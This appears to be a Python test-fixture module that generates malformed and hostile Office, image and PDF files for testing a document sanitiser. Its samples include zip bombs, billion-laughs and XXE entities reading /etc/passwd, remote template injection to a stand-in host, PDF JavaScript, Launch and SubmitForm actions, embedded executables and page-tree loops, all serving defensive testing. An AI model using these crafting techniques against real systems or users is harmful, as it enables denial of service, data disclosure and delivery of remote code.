"""Files for the tests, made when they are needed: plain ones, hostile ones, ones that hide something."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from html import escape
from typing import Any

import pikepdf
from PIL import Image

CANARY = "11010119900307731X"  # stands for what must not get out
NOTE = "taken-for-the-tests"  # harmless, and to be gone all the same
Made = tuple[str, Callable[[], bytes]]

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument"
DOCX_MAIN, XLSX_MAIN = f"{_TYPE}.wordprocessingml.document.main+xml", f"{_TYPE}.spreadsheetml.sheet.main+xml"

Parts = Mapping[str, str | bytes]


# --- plain files ------------------------------------------------------------------------------------------------


def zipped(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def relations(*entries: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    """(id, last word of the type, target[, "External"])."""
    lines = [
        f'<Relationship Id="{entry[0]}" Type="{_RELATIONS}/{entry[1]}" Target="{entry[2]}"'
        + (f' TargetMode="{entry[3]}"' if len(entry) > 3 else "")
        + "/>"
        for entry in entries
    ]
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{namespace}">{"".join(lines)}</Relationships>'


def content_types(main: str, name: str, more: Mapping[str, str] | None = None) -> str:
    overrides = {f"/{name}": main} | dict(more or {})
    lines = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides.items())
    defaults = "".join(
        f'<Default Extension="{ending}" ContentType="{kind}"/>'
        for ending, kind in {
            "rels": "application/vnd.openxmlformats-package.relationships+xml",
            "xml": "application/xml",
            "jpeg": "image/jpeg",
            "png": "image/png",
            "bin": "application/octet-stream",
            "vml": "application/vnd.openxmlformats-officedocument.vmlDrawing",
        }.items()
    )
    return f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{defaults}{lines}</Types>'


def docx_parts(body: str = "", **more: Any) -> dict[str, str | bytes]:
    inner = body or "<w:p><w:r><w:t>村务公开</w:t></w:r></w:p>"
    return {
        "[Content_Types].xml": content_types(more.pop("main", DOCX_MAIN), "word/document.xml"),
        "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": f"<w:document {W} {R}><w:body>{inner}</w:body></w:document>",
        **more.pop("parts", {}),
    }


def docx(body: str = "", **more: Any) -> bytes:
    return zipped(docx_parts(body, **more))


def stored_docx(body: str = "", **more: Any) -> bytes:
    """Not compressed, so that no ratio gives it away."""
    return zipped(docx_parts(body, **more), zipfile.ZIP_STORED)


def row(number: int, *values: str, attributes: str = "") -> str:
    cells = "".join(
        f'<c r="{chr(65 + place)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for place, value in enumerate(values)
    )
    return f'<row r="{number}" {attributes}>{cells}</row>'


def xlsx_parts(rows: str = "", sheet: str = "", book: str = "", **more: Any) -> dict[str, str | bytes]:
    before = more.pop("before", "")
    data = f"<sheetData>{rows or row(1, '收入', '12000.00')}</sheetData>"
    return {
        "[Content_Types].xml": content_types(more.pop("main", XLSX_MAIN), "xl/workbook.xml"),
        "_rels/.rels": relations(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f"<workbook {S} {R}>{book}<sheets>"
        + '<sheet name="收支" sheetId="1" r:id="rId1"/>'
        + more.pop("tabs", "")
        + "</sheets>"
        + more.pop("after", "")
        + "</workbook>",
        "xl/_rels/workbook.xml.rels": relations(("rId1", "worksheet", "worksheets/sheet1.xml"), *more.pop("links", ())),
        "xl/worksheets/sheet1.xml": f"<worksheet {S} {R}>{before}{data}{sheet}</worksheet>",
        **more.pop("parts", {}),
    }


def xlsx(rows: str = "", **more: Any) -> bytes:
    return zipped(xlsx_parts(rows, **more))


def picture(form: str = "JPEG", size: tuple[int, int] = (400, 300), **options: Any) -> bytes:
    stream = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").resize(size).save(stream, form, **options)
    return stream.getvalue()


def phone_photo(note: str = NOTE) -> bytes:
    """As a telephone takes it: lying on its side, with place, time, maker, serial number and a note."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it to the right
    exif[0x010F], exif[0x0110], exif[0x9286] = "Huawei", "P60", note
    exif.get_ifd(0x8769)[0xA431] = "SERIAL-8675309"
    exif.get_ifd(0x8825).update({1: "N", 2: (38.0, 16.0, 21.12), 3: "E", 4: (106.0, 20.0, 13.2), 29: "2023:11:06"})
    return picture("JPEG", (1600, 1200), exif=exif, comment=note.encode())


def pdf(text: str = "Village affairs", change: Callable[[Any], None] | None = None, pages: int = 1) -> bytes:
    """Pages with a line of text each, changed at will."""
    with pikepdf.new() as made:
        for _ in range(pages):
            page = made.add_blank_page(page_size=(300, 300))
            font = pikepdf.Dictionary(
                Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
            )
            page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
            page.Contents = made.make_stream(f"BT /F1 12 Tf 20 200 Td ({text}) Tj ET".encode() if text else b"")
        if change:
            change(made)
        stream = io.BytesIO()
        made.save(stream)
    return stream.getvalue()


# --- crafting ---------------------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, data: bytes | None = None) -> bytes:
    """A one-bit picture of that size; without data it is all there, and black."""
    compressed = zlib.compress(bytes((width // 8 + 2) * height), 9) if data is None else data
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = png_chunk(b"IHDR", head) + png_chunk(b"IDAT", compressed) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def png_with(kind: bytes, data: bytes) -> bytes:
    plain = picture("PNG")
    return plain[:33] + png_chunk(kind, data) + plain[33:]


def jpeg_with(marker: int, data: bytes) -> bytes:
    plain = picture("JPEG")
    return plain[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data + plain[2:]


def jpeg_of(width: int, height: int) -> bytes:
    """Says that it is of that size."""
    plain = bytearray(picture("JPEG"))
    at = plain.index(b"\xff\xc0")
    plain[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(plain)


def patched_zip(data: bytes, change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    """The same archive with every entry changed while it is written."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry)
            change(entry)
            target.writestr(entry, content)
    return stream.getvalue()


def with_entry(name: str, content: bytes = b"x", data: bytes | None = None, **attributes: Any) -> bytes:
    """A document with one more entry, whose name and attributes are taken as they are."""
    stream = io.BytesIO(data or docx())
    with zipfile.ZipFile(stream, "a", attributes.pop("method", zipfile.ZIP_DEFLATED)) as archive:
        entry = zipfile.ZipInfo("placeholder")
        entry.filename = name
        entry.compress_type = archive.compression
        for key, value in attributes.items():
            setattr(entry, key, value)
        archive.writestr(entry, content)
    return stream.getvalue()


def lying_about_size() -> bytes:
    """150 MB that say they are 1 kB."""
    data = bytearray(with_entry("word/media/image1.png", bytes(150 << 20)))
    for header, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.rindex(header)
        data[at + offset : at + offset + 4] = struct.pack("<I", 1024)
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of the directory share the bytes of one."""
    data = bytearray(with_entry("word/media/a.png", b"a" * 1000, with_entry("word/media/b.png", b"a" * 1000)))
    last, before = data.rindex(b"PK\x01\x02"), data[: data.rindex(b"PK\x01\x02")].rindex(b"PK\x01\x02")
    data[last + 42 : last + 46] = data[before + 42 : before + 46]
    return bytes(data)


def flagged_as_encrypted() -> bytes:
    data = bytearray(docx())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def wrong_checksum() -> bytes:
    data = bytearray(docx())
    at = data.index(b"PK\x01\x02")
    data[at + 16] ^= 0xFF
    return bytes(data)


def many_entries(count: int) -> bytes:
    return zipped({**docx_parts(), **{f"word/media/{number}.png": b"" for number in range(count)}})


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]><w:document {W}>&l9;</w:document>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><w:document {W}><w:body>{"&a;" * 20_000}</w:body></w:document>'
EXTERNAL = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document {W}>&a;</w:document>'


def docx_with(**parts: str | bytes) -> bytes:
    """Further parts, their names with __ for / and the dot as _DOT_."""
    return docx(parts={name.replace("__", "/").replace("_DOT_", "."): content for name, content in parts.items()})


def docx_linked(kind: str, target: str, body: str = "", external: bool = True) -> bytes:
    entry = ("rId9", kind, target, "External") if external else ("rId9", kind, target)
    return docx(body, parts={"word/_rels/document.xml.rels": relations(entry)})


def attach_file(made: Any) -> None:
    made.attachments["virus.exe"] = b"MZ" + CANARY.encode()


def javascript(made: Any) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert('{CANARY}')")
    made.Root.OpenAction = action
    made.pages[0].AA = pikepdf.Dictionary(O=action)


def launch(made: Any) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=f"{CANARY}.exe")


def endless_pages(made: Any) -> None:
    made.Root.Pages.Kids.append(made.Root.Pages)


def content_bomb(made: Any) -> None:
    bomb = zlib.compress(b"0 0 m 1 1 l S\n" * 20_000_000, 9)
    stream = pikepdf.Stream(made, bomb)
    stream.Filter = pikepdf.Name.FlateDecode
    made.pages[0].Contents = stream


def encrypted() -> bytes:
    stream = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(stream, encryption=pikepdf.Encryption(owner="o", user="u"))
    return stream.getvalue()


def on_link(action: Any) -> Callable[[Any], None]:
    def change(made: Any) -> None:
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])

    return change


# --- more of the same kind --------------------------------------------------------------------------------------


def moving(form: str) -> bytes:
    stream = io.BytesIO()
    frames = [Image.new("RGB", (60, 40), colour) for colour in ("red", "green", "blue")]
    frames[0].save(stream, form, save_all=True, append_images=frames[1:])
    return stream.getvalue()


def in_mode(mode: str, form: str) -> bytes:
    stream = io.BytesIO()
    Image.linear_gradient("L").convert("I" if mode == "I;16" else mode).convert(mode).save(stream, form)
    return stream.getvalue()


def huge_profile() -> bytes:
    return picture("JPEG", icc_profile=bytes(15 << 20))


def jpeg_comments(count: int) -> bytes:
    plain = picture("JPEG")
    return plain[:2] + (b"\xff\xfe\x00\x04xx" * count) + plain[2:]


class _Pipe(io.RawIOBase):
    """What a program writes that cannot go back: sizes come after the data."""

    def __init__(self) -> None:
        self.written = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.written += data
        return len(data)


def streamed() -> bytes:
    pipe = _Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
    return bytes(pipe.written)


def zip64() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            with archive.open(name, "w", force_zip64=True) as entry:
                entry.write(content if isinstance(content, bytes) else content.encode())
    return stream.getvalue()


def of_ratio(ratio: int) -> bytes:
    """About so many bytes for one: nothing, beside as much that cannot be squeezed."""
    noise = random.Random(5).randbytes(100_000)
    return with_entry("word/media/b.bmp", noise, with_entry("word/media/a.bmp", bytes(100_000 * ratio)))


def same_name_twice() -> bytes:
    return docx(parts={"word/documenu.xml": "<x/>"}).replace(b"word/documenu.xml", b"word/document.xml")


def wrong_directory() -> bytes:
    data = bytearray(docx())
    at = data.rindex(b"PK\x05\x06") + 16
    data[at : at + 4] = struct.pack("<I", struct.unpack("<I", data[at : at + 4])[0] - 50)
    return bytes(data)


def two_names() -> bytes:
    """The directory says one name, the entry itself another."""
    data = bytearray(docx())
    at = data.index(b"word/document.xml")
    data[at : at + 4] = b"evil"
    return bytes(data)


def commented(data: bytes) -> bytes:
    stream = io.BytesIO(data)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.comment = CANARY.encode() * 3_000
    return stream.getvalue()


def docx_in(encoding: str) -> bytes:
    """Entities in an encoding that hides them from whoever searches for them."""
    text = BILLION.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>')
    return docx_with(word__document_DOT_xml=text.encode(encoding))


def one_text_everywhere() -> bytes:
    text = f"<sst {S}><si><t>{random.Random(6).randbytes(400_000).hex()}</t></si></sst>"
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 100_000))
    links = (("rId8", "sharedStrings", "sharedStrings.xml"),)
    return zipped(xlsx_parts(rows, links=links, parts={"xl/sharedStrings.xml": text}))


def many_texts(count: int) -> bytes:
    return xlsx(parts={"xl/sharedStrings.xml": f"<sst {S}>{'<si><t>a</t></si>' * count}</sst>"})


def remote_template() -> bytes:
    parts = {
        "word/settings.xml": f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/document.xml.rels": relations(("rId9", "settings", "settings.xml")),
        "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", f"http://{CANARY}/a.dotm", "External")),
    }
    return docx(parts=parts)


def field(*pieces: str) -> str:
    """A field, its code in runs; a piece may be a field itself."""
    runs = "".join(
        piece if piece.startswith("<") else f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces
    )
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{runs}{middle}<w:r><w:t>x</w:t></w:r>{end}"


def disguised_main() -> bytes:
    """What opens as the document is kept where nobody looks for one."""
    theme = f"<w:document {W}><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>"
    parts = {
        "[Content_Types].xml": content_types(DOCX_MAIN, "word/document.xml", {"/word/theme/theme1.xml": DOCX_MAIN}),
        "_rels/.rels": relations(("rId1", "officeDocument", "word/theme/theme1.xml")),
        "word/theme/theme1.xml": theme,
    }
    return docx(parts=parts)


def two_mains() -> bytes:
    entries = (("rId1", "officeDocument", "word/document.xml"), ("rId2", "officeDocument", "word/document2.xml"))
    types = content_types(DOCX_MAIN, "word/document.xml", {"/word/document2.xml": DOCX_MAIN})
    other = f"<w:document {W}><w:body/></w:document>"
    return docx(parts={"[Content_Types].xml": types, "_rels/.rels": relations(*entries), "word/document2.xml": other})


def formula(text: str) -> bytes:
    return xlsx(f'<row r="1"><c r="A1"><f>{escape(text)}</f><v>0</v></c></row>')


def on_page(**entries: Any) -> Callable[[Any], None]:
    """A remark on the first page."""

    def change(made: Any) -> None:
        remark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **entries)
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(remark)])

    return change


def xfa_script(made: Any) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(f"<script>{CANARY}</script>".encode()))


def pinned_file(made: Any) -> None:
    stream = made.make_stream(b"MZ" + CANARY.encode())
    file = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=stream))
    on_page(Subtype=pikepdf.Name.FileAttachment, FS=file)(made)


def screen(made: Any) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=f"{CANARY}.exe")
    on_page(Subtype=pikepdf.Name.Screen, A=action, AA=pikepdf.Dictionary(PO=action))(made)


def submit_button(made: Any) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=f"http://{CANARY}/")
    on_page(Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T="a", A=action)(made)
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[made.pages[0].Annots[0]])


def object_stream_in_itself() -> bytes:
    """Object 1 lies in the stream that is object 1."""
    body = b"%PDF-1.5\n1 0 obj <</Type /ObjStm /N 1 /First 4 /Extends 1 0 R /Length 9>> stream\n"
    body += b"1 0 1 0 R\nendstream endobj\n"
    table = bytes([1, 0, 0, 0, 2, 0, 1, 0, 1, 0, len(body), 0])
    head = f"2 0 obj <</Type /XRef /Size 3 /W [1 2 1] /Root 1 0 R /Length {len(table)}>> stream\n"
    return body + head.encode() + table + f"\nendstream endobj\nstartxref\n{len(body)}\n%%EOF".encode()


def table_in_circles() -> bytes:
    """The earlier table that the trailer names is the table itself."""
    stream = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(stream, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = stream.getvalue()
    start = data[data.rindex(b"startxref") + 10 :].split()[0]
    return data.replace(b"trailer <<", b"trailer << /Prev " + start)


def count_of_pages(made: Any) -> None:
    made.Root.Pages.Count = 1_000_000


def same_page(count: int) -> Callable[[], bytes]:
    def made() -> bytes:
        kids = b"3 0 R " * count
        head = b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids ["
        tail = b"] /Count %d>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>> endobj\n" % count
        return head + kids + tail + b"trailer <</Root 1 0 R>>\n%%EOF"

    return made


def doubling_pages(made: Any) -> None:
    node = made.pages[0].obj
    for level in range(30):
        kids = pikepdf.Array([node, node])
        node = made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=kids, Count=2 << level))
    made.Root.Pages = node


def paper(*box: float) -> Callable[[Any], None]:
    def change(made: Any) -> None:
        made.pages[0].MediaBox = [pikepdf.Object.parse(f"{side:.0f}".encode()) for side in box]

    return change


def no_paper(made: Any) -> None:
    made.pages[0].MediaBox = pikepdf.Array([pikepdf.Name.Wide, 0, pikepdf.Dictionary(), 9])


def flood(made: Any) -> None:
    image = made.make_stream(zlib.compress(bytes(1000)))
    image.Type, image.Subtype, image.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.FlateDecode
    image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = 100_000, 100_000, 1, pikepdf.Name.DeviceGray
    made.pages[0].Resources.XObject = pikepdf.Dictionary(Im1=image)
    made.pages[0].Contents = made.make_stream(b"300 0 0 300 0 0 cm /Im1 Do")


def folded_twice(made: Any) -> None:
    stream = pikepdf.Stream(made, zlib.compress(zlib.compress(b"0 0 m 1 1 l S\n" * 20_000_000, 9), 9))
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    made.pages[0].Contents = stream


def page_as_picture(made: Any) -> None:
    content_bomb(made)
    made.pages[0].Contents.Width = 1


def _form(made: Any, content: bytes) -> Any:
    form = made.make_stream(content)
    form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 300, 300]
    return form


def drawing_itself(made: Any) -> None:
    form = made.make_indirect(_form(made, b"/F Do"))
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))
    made.pages[0].Resources.XObject = pikepdf.Dictionary(F=form)
    made.pages[0].Contents = made.make_stream(b"/F Do")


def drawings_of_drawings(made: Any) -> None:
    form = _form(made, b"BT /F1 9 Tf (x) Tj ET")
    for _ in range(10):
        outer = _form(made, b"/F Do " * 10)
        outer.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))
        form = outer
    made.pages[0].Resources.XObject = pikepdf.Dictionary(F=form)
    made.pages[0].Contents = made.make_stream(b"/F Do")


def deep_brackets() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    head = b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R /Deep "
    return head + deep + b">> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF"


def endless_font(made: Any) -> None:
    meaning = b"1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange\n" * 1_000
    made.pages[0].Resources.Font.F1.ToUnicode = made.make_stream(meaning)


def many_remarks(made: Any) -> None:
    remark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents=CANARY)
    made.pages[0].Annots = pikepdf.Array([remark] * 50_000)
